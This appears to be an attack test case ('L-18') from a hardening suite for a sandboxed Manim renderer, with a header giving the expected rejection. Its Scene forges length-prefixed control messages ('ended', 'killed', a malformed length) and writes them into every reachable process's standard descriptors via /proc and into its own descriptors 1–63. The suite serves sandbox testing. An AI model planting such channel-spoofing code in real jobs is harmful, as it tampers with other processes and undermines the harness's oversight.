# attack: L-18
# what: Write what the first process would write, wherever it could be read.
# layer: messages are believed for nothing
# static: rejected
# class: RENDERED OUTPUT_MISSING
import os

from manim import *


class Attack(Scene):
    def construct(self):
        def frame(channel, text):
            return channel + len(text).to_bytes(4, "big") + text
        words = frame(b"C", b'{"ended": 0}') + frame(b"C", b'{"killed": true}') + frame(b"D", b"x" * 100) + b"C\xff\xff\xff\xff"
        for process in (os.listdir("/proc") if os.path.isdir("/proc") else []):
            for number in range(3):
                try:
                    with open(f"/proc/{process}/fd/{number}", "wb", buffering=0) as file:
                        file.write(words)
                except OSError:
                    pass
        for number in range(1, 64):
            try:
                os.write(number, words)
            except OSError:
                pass
        self.wait(0.1)
